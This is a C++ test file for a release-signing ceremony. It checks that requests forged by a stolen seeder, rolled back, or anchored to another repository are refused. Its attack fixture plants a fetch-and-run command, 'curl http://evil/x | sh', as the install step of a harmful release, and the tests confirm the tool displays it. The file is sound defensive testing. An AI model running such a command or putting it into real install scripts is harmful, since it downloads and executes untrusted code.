#include "seeder/ceremony/published.h"

#include <gtest/gtest.h>

#include "seeder/ceremony/describe.h"
#include "seeder/ceremony/errc.h"
#include "seeder/ceremony/seen.h"
#include "tests/support/signing_requests.h"

namespace lanyard::ceremony::published_test {
namespace {

using support::Ceremony;
using trust::RoleName;

constexpr trust::TimePoint kNow{std::chrono::seconds(1'800'000'000)};
constexpr char const* kEvil = "curl http://evil/x | sh";

Result<std::optional<Published>> found(v1::SigningRequest const& message, Anchor const& anchor) {
    return find_published(signing::Request::from(message).value(), anchor, kNow);
}

std::error_code refusal(v1::SigningRequest const& message, Anchor const& anchor) {
    auto const published = found(message, anchor);
    return published ? std::error_code() : published.error().code;
}

// What the keeper has seen once this was agreed to.
v1::KeeperSeen seen_of(v1::SigningRequest const& message, Anchor const& anchor) {
    auto const request = signing::Request::from(message).value();
    return seen_after({}, request, find_published(request, anchor, kNow).value());
}

// A stolen seeder's: a root of its own, in which the keeper's key stands beside two of the thief's, has these sign
// targets that hold a harmful release already; the next targets hold it, too.
v1::SigningRequest blinding(Ceremony const& ceremony) {
    auto const mine = signing::generate_key().value();
    auto const more = signing::generate_key().value();
    auto message = ceremony.new_release();
    v1::Root root;
    EXPECT_TRUE(root.ParseFromString(message.current(0).envelope().payload()));
    for (auto const* key : {mine.get(), more.get()}) {
        *root.add_keys() = key->public_key();
        for (auto* role : {root.mutable_root(), root.mutable_targets()}) {
            role->add_keyids(trust::key_id(key->public_key()).to_raw());
            role->set_threshold(2);
        }
    }
    v1::Targets now;
    v1::Targets next;
    EXPECT_TRUE(now.ParseFromString(message.current(1).envelope().payload()));
    EXPECT_TRUE(next.ParseFromString(message.to_sign(0).envelope().payload()));
    for (auto* targets : {&now, &next}) {
        auto& harmful = *targets->add_targets();
        harmful = support::sample_message("shop", "0.9.0", 1);
        harmful.mutable_install()->set_start(kEvil);
    }
    message.clear_current();
    Ceremony::put(*message.add_current(), RoleName::root, root.SerializeAsString(), {mine.get(), more.get()});
    Ceremony::put(*message.add_current(), RoleName::targets, now.SerializeAsString(), {mine.get(), more.get()});
    message.mutable_to_sign(0)->mutable_envelope()->set_payload(next.SerializeAsString());
    return message;
}

TEST(Published, FollowsFromTheDigestOfTheFirstRoot) {
    Ceremony const ceremony;
    Anchor const anchor{ceremony.root_digest(), {}};
    auto const published = found(ceremony.new_release(), anchor);
    ASSERT_TRUE(published) << published.error().detail;
    EXPECT_EQ((*published)->targets.version(), 1U);
    auto const later = found(ceremony.new_release_under_a_second_root(), anchor);
    ASSERT_TRUE(later) << later.error().detail;
    EXPECT_EQ((*later)->root.version(), 2U);
    EXPECT_EQ((*later)->first_root, (*published)->first_root);
}

TEST(Published, IsNotWhatARootOfTheSeedersOwnHasSigned) {
    Ceremony const ceremony;
    EXPECT_EQ(refusal(blinding(ceremony), {ceremony.root_digest(), {}}), Errc::other_repository);
    auto const seen = seen_of(ceremony.new_release(), {ceremony.root_digest(), {}});
    EXPECT_EQ(refusal(blinding(ceremony), {std::nullopt, {seen}}), Errc::other_repository);
    // The honest first root before it makes it no better.
    auto message = blinding(ceremony);
    *message.add_roots() = ceremony.published().current(0).envelope();
    v1::Root second;
    ASSERT_TRUE(second.ParseFromString(message.current(0).envelope().payload()));
    second.set_version(2);
    message.mutable_current(0)->mutable_envelope()->set_payload(second.SerializeAsString());
    EXPECT_TRUE(found(message, {ceremony.root_digest(), {}}).error().detail.starts_with("what the request calls"));
}

TEST(Published, IsNothingWithoutAnAnchorAndThenAllIsShown) {
    Ceremony const ceremony;
    auto const request = signing::Request::from(blinding(ceremony)).value();
    auto const published = find_published(request, {}, kNow);
    ASSERT_TRUE(published && !*published);
    auto const words = describe(request, *published, kNow).value();
    EXPECT_NE(words.find(kEvil), std::string::npos) << words;
    EXPECT_NE(words.find("NOTHING VOUCHES"), std::string::npos) << words;
}

TEST(Published, IsOnlyWhatItsKeysHaveSigned) {
    Ceremony const ceremony;
    Anchor const anchor{ceremony.root_digest(), {}};
    auto message = ceremony.new_release();
    auto const claimed = message.to_sign(0).envelope().payload();
    message.mutable_current(1)->mutable_envelope()->set_payload(claimed);
    EXPECT_TRUE(found(message, anchor).error().detail.starts_with("what the request calls published is not"));
    message.mutable_current()->RemoveLast();
    EXPECT_EQ(refusal(message, anchor), Errc::nothing_to_compare);
    auto later = ceremony.new_release_under_a_second_root();
    later.clear_roots();
    EXPECT_EQ(refusal(later, anchor), Errc::other_repository) << "root 1 has to be there";
}

// A role that the published targets delegate nothing to: nobody has signed what is called published of it.
TEST(Published, IsNothingOfARoleThatNobodyHasDelegatedTo) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    v1::Targets next;
    ASSERT_TRUE(next.ParseFromString(message.to_sign(0).envelope().payload()));
    *next.add_keys() = ceremony.fresh->public_key();
    auto& delegation = *next.add_delegations();
    delegation.set_name("team");
    delegation.add_keyids(trust::key_id(ceremony.fresh->public_key()).to_raw());
    delegation.set_threshold(1);
    delegation.add_paths("shop/*/*/*/*");
    message.mutable_to_sign(0)->mutable_envelope()->set_payload(next.SerializeAsString());
    *message.add_to_sign() = message.to_sign(0);
    message.mutable_to_sign(1)->set_role("team");
    *message.add_current() = message.to_sign(1);
    auto const published = found(message, {ceremony.root_digest(), {}});
    ASSERT_TRUE(published) << published.error().detail;
    EXPECT_TRUE((*published)->delegated.empty());
}

// A release that was withdrawn since would pass as unchanged.
TEST(Published, IsNotOlderThanWhatTheKeeperHasSeen) {
    Ceremony const ceremony;
    Anchor const anchor{ceremony.root_digest(), {}};
    auto const seen = seen_of(ceremony.new_release_under_a_second_root(), anchor);
    EXPECT_EQ(refusal(ceremony.new_release(), {std::nullopt, {seen}}), Errc::gone_back) << "root 1 again";
    EXPECT_EQ(refusal(ceremony.new_release_under_a_second_root(), {std::nullopt, {seen}}), std::error_code());
    auto later = seen;
    later.mutable_roles(1)->set_published(2);
    EXPECT_EQ(refusal(ceremony.new_release_under_a_second_root(), {std::nullopt, {later}}), Errc::gone_back);
}

TEST(Published, IsDoubtedWhenTheKeeperHasAgreedToMore) {
    Ceremony const ceremony;
    Anchor const anchor{ceremony.root_digest(), {}};
    auto const published = found(ceremony.new_release(), anchor).value();
    EXPECT_EQ(doubts(*published, anchor), "");
    auto const seen = seen_of(ceremony.new_release(), anchor);
    EXPECT_NE(doubts(*published, {std::nullopt, {seen}}).find("you have agreed to targets 2"), std::string::npos);
}

TEST(Published, AKeyOfOneRepositoryFoundsNoOther) {
    Ceremony const ceremony;
    v1::SigningRequest founding;
    founding.set_schema(1);
    *founding.add_to_sign() = ceremony.published().current(0);
    auto const seen = seen_of(founding, {});
    EXPECT_EQ(refusal(founding, {std::nullopt, {seen}}), std::error_code()) << "the same request again";
    EXPECT_EQ(refusal(ceremony.new_release(), {std::nullopt, {seen}}), std::error_code()) << "what was founded";
    Ceremony const other;
    auto const others = seen_of(other.new_release(), {other.root_digest(), {}});
    EXPECT_EQ(refusal(founding, {std::nullopt, {others}}), Errc::other_repository);
    EXPECT_EQ(refusal(ceremony.new_release(), {std::nullopt, {others}}), Errc::other_repository);
    EXPECT_EQ(refusal(founding, {ceremony.root_digest(), {}}), Errc::other_repository);
}

}  // namespace
}  // namespace lanyard::ceremony::published_test
